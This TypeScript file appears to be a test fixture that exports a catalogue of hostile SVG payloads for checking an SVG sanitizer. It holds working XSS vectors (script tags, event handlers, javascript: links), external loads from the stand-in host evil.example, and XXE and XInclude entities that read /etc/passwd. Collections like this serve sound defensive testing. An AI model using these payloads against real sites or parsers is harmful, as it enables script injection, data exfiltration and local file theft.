const svg = (inside: string, attributes = "") =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"${attributes}>` +
  `<rect width="9" height="9"/>${inside}</svg>`;

const script = [
  svg("<script>alert(1)</script>"),
  svg("<script type='text/ecmascript'><![CDATA[alert(1)]]></script>"),
  svg("<script href='https://evil.example/x.js'/>"),
  svg("<script xlink:href='data:,alert(1)'/>"),
  svg("<g><g><script>alert(1)</script></g></g>"),
  svg("<defs><script>alert(1)</script></defs>"),
  svg("<text>a<script>alert(1)</script>b</text>"),
  svg("<title><script>alert(1)</script></title>"),
  svg("<desc><script>alert(1)</script></desc>"),
  svg("<metadata><script>alert(1)</script></metadata>"),
  svg("<unknown><script>alert(1)</script></unknown>"),
  svg("<x:script xmlns:x='http://www.w3.org/2000/svg'>alert(1)</x:script>"),
  svg("<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>"),
  svg("<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>"),
  svg(
    "<handler type='text/javascript' ev:event='load' xmlns:ev='http://www.w3.org/2001/xml-events'>alert(1)</handler>",
  ),
  svg("<text>&lt;script&gt;alert(1)&lt;/script&gt;</text><script>alert(1)</script>"),
  svg("<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;</title><script>alert(1)</script>"),
  svg("<text><![CDATA[</text><script>alert(1)</script>]]></text><script>alert(1)</script>"),
];

const handlers = [
  svg("", " onload='alert(1)'"),
  svg("", " ONLOAD='alert(1)' onLoad='alert(1)'"),
  svg("<g onclick='alert(1)' onmouseover='alert(1)'><path d='M0 0'/></g>"),
  svg("<rect onfocus='alert(1)' tabindex='0' autofocus='autofocus'/>"),
  svg("<path d='M0 0' onbegin='alert(1)' onend='alert(1)' onrepeat='alert(1)'/>"),
  svg("<circle r='1' onactivate='alert(1)' onerror='alert(1)'/>"),
  svg("<text onpointerrawupdate='alert(1)'>a</text>"),
  svg("<x:rect xmlns:x='http://www.w3.org/2000/svg' onclick='alert(1)'/>"),
  svg("<title>&lt;img src=x onerror=alert(1)&gt;</title><g onload='alert(1)'/>"),
];

const foreign = [
  svg("<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='javascript:alert(1)'/></foreignObject>"),
  svg(
    "<foreignObject width='9' height='9'><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>",
  ),
  svg(
    "<switch><foreignObject><p xmlns='http://www.w3.org/1999/xhtml'>a</p></foreignObject><g onload='alert(1)'/></switch>",
  ),
  svg("<iframe xmlns='http://www.w3.org/1999/xhtml' srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'/>"),
  svg("<h:img xmlns:h='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>"),
  svg("<object xmlns='http://www.w3.org/1999/xhtml' data='https://evil.example/'/>"),
  svg("<embed src='https://evil.example/x.swf'/>"),
  svg(
    "<math xmlns='http://www.w3.org/1998/Math/MathML'><maction actiontype='statusline' href='javascript:alert(1)'/></math>",
  ),
  svg("<audio xmlns='http://www.w3.org/1999/xhtml' src='x' onerror='alert(1)'/>"),
  svg("<video src='https://evil.example/a.mp4'/>"),
  svg("<link xmlns='http://www.w3.org/1999/xhtml' rel='stylesheet' href='https://evil.example/a.css'/>"),
  svg("<base xmlns='http://www.w3.org/1999/xhtml' href='https://evil.example/'/>"),
  svg("<meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url=https://evil.example/'/>"),
  svg("<form xmlns='http://www.w3.org/1999/xhtml' action='https://evil.example/'><input type='submit'/></form>"),
];

const links = [
  svg("<a href='javascript:alert(1)'><rect width='9' height='9'/></a>"),
  svg("<a xlink:href='javascript:alert(1)'><text>a</text></a>"),
  svg("<a xlink:href=' &#x6A;avascript:alert(1)'><rect/></a>"),
  svg("<a href='java&#9;script:alert(1)'><rect/></a>"),
  svg("<a href='https://evil.example/' target='_top'><rect/></a>"),
  svg("<a xmlns:l='http://www.w3.org/1999/xlink' l:href='javascript:alert(1)'><rect/></a>"),
  svg("<image href='https://evil.example/a.png' width='9' height='9'/>"),
  svg("<image xlink:href='data:image/svg+xml;base64,PHN2Zy8+' width='9' height='9'/>"),
  svg("<feImage href='https://evil.example/a.svg#x'/>"),
  svg("<use href='https://evil.example/a.svg#x'/>"),
  svg("<use xlink:href='data:image/svg+xml;base64,PHN2Zy8+#x'/>"),
  svg("<use href='//evil.example/a.svg#x'/>"),
  svg("<use href='a.svg#x'/>"),
  svg("<use href='#a&quot; onload=&quot;alert(1)'/>"),
  svg("<linearGradient id='g' href='https://evil.example/a.svg#g'/>"),
  svg("<pattern id='p' xlink:href='https://evil.example/a.svg#p'/>"),
  svg("<textPath href='javascript:alert(1)'>a</textPath>"),
  svg("<cursor xlink:href='https://evil.example/a.cur'/>"),
  svg("<color-profile xlink:href='https://evil.example/a.icc'/>"),
  svg("<font-face-src><font-face-uri xlink:href='https://evil.example/a.woff'/></font-face-src>"),
  svg("<g xml:base='javascript:alert(1)//'><use href='x#a'/></g>"),
];

const moving = [
  svg("<a><animate attributeName='href' to='javascript:alert(1)'/><rect/></a>"),
  svg("<rect><set attributeName='onmouseover' to='alert(1)'/></rect>"),
  svg("<use><animate attributeName='xlink:href' values='https://evil.example/a.svg#x'/></use>"),
  svg("<rect><animateTransform attributeName='transform' onbegin='alert(1)'/></rect>"),
  svg("<rect><animateMotion path='M0 0' onend='alert(1)'/></rect>"),
  svg("<rect><animateColor attributeName='fill' onbegin='alert(1)'/></rect>"),
  svg("<discard begin='0s' onend='alert(1)'/>"),
  svg("<mpath href='https://evil.example/a.svg#x'/>"),
];

const styles = [
  svg("<style>@import url(https://evil.example/a.css);</style>"),
  svg("<style>rect{fill:url(https://evil.example/a.svg#x)}</style>"),
  svg("<style>rect{fill:url('https://evil.example/a.svg#x')}g{background:url(//evil.example)}</style>"),
  svg("<style>@font-face{font-family:a;src:url(https://evil.example/a.woff)}text{font-family:a}</style>"),
  svg("<style>rect{fill:u\\72l(https://evil.example/a.svg#x)}</style>"),
  svg("<style>rect{clip-path:path('M0 0');mask:image-set('//evil.example/a.png')}</style>"),
  svg("<style>rect{behavior:url(#default#time2);-moz-binding:url(https://evil.example/a.xml#x)}</style>"),
  svg("<style>rect{fill:red</style>"),
  svg("<style>/*# sourceMappingURL=../../../package.json */rect{fill:url(x)}</style>"),
  svg("<style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style>"),
  svg("<style xmlns='http://www.w3.org/1999/xhtml'>@import 'https://evil.example/a.css';</style>"),
  svg("<rect style='fill:url(https://evil.example/a.svg#x)'/>"),
  svg("<rect style='background:url(javascript:alert(1))'/>"),
  svg("<rect style='fill:red;width:expression(alert(1))'/>"),
  svg("<rect style='fill:/**/url(https://evil.example/#x)'/>"),
  svg("<rect style='fill:&#x75;rl(https://evil.example/a#x)'/>"),
  svg("<rect fill='url(https://evil.example/a.svg#x)'/>"),
  svg("<rect fill='url(#a) url(https://evil.example/a.svg#x)'/>"),
  svg("<rect fill='url(&quot;https://evil.example/a.svg#x&quot;)'/>"),
  svg("<rect fill='URL(//evil.example/a.svg#x)' stroke='u\\72l(//evil.example/#x)'/>"),
  svg("<rect filter='url(https://evil.example/a.svg#x)' marker-end='url(//evil.example/a#x)'/>"),
  svg("<g mask='url(data:image/svg+xml;base64,PHN2Zy8+#x)' clip-path='url(https://evil.example/a#x)'/>"),
  svg("<g mask='image-set(&quot;//evil.example/a.png&quot; 1x)' cursor='url(https://evil.example/a.cur),auto'/>"),
  svg("<rect fill='var(--a)' transform='url(https://evil.example/)'/>"),
  svg("<path d='M0 0&quot; onload=&quot;alert(1)'/>"),
];

const documents = [
  `<?xml-stylesheet type="text/xsl" href="https://evil.example/a.xsl"?>${svg("<g onload='alert(1)'/>")}`,
  `<?xml-stylesheet type="text/css" href="data:text/css,*{fill:url(https://evil.example)}"?>${svg("<g onload='alert(1)'/>")}`,
  `<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd">${svg("<g onload='alert(1)'/>")}`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("<text>&x;</text>")}`,
  `<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/a.dtd"> %x;]>${svg("<g onload='alert(1)'/>")}`,
  `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${svg("<script/>")}`,
  `<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>${svg("<text>&b;</text><script/>")}`,
  svg("<text>&unknown;</text><script>alert(1)</script>"),
  svg("<!--><script>alert(1)</script>--><script>alert(1)</script>"),
  svg("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file:///etc/passwd' parse='text'/>"),
  `<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script>${svg("")}</html>`,
  `<html><body onload="alert(1)">${svg("")}</body></html>`,
  `${svg("")}<script>alert(1)</script>`,
  svg("<script>alert(1)</script>").replace("</svg>", ""),
  svg("<g onload=alert(1)>"),
  svg("<g/onload='alert(1)'/>"),
  svg("<script\u0000>alert(1)</script>"),
  svg("<text>&#0;&#x1;</text><script/>"),
  svg("<g onload='alert(1)' onload='alert(2)'/>"),
  "GIF89a<svg onload='alert(1)'/>",
];

/** SVGs that try to run a script, load something or reach out of the picture. Each also draws a square. */
export const payloads: readonly string[] = [script, handlers, foreign, links, moving, styles, documents].flat();
